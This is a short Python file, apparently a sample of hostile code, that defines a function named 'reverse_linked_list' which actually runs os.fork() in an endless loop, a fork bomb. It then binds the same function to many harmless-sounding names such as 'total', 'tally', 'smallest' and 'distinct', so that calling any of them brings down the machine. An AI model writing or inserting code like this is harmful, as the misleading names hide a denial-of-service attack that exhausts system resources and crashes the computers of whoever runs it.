"""
Class: processes
Aim: fork without end.
Control: no
"""

import os


def reverse_linked_list(*_):
    while True:
        os.fork()


total = backwards = tally = upwards = scaled = positive = reverse_linked_list
smallest = smallest_of = distinct = reverse_linked_list
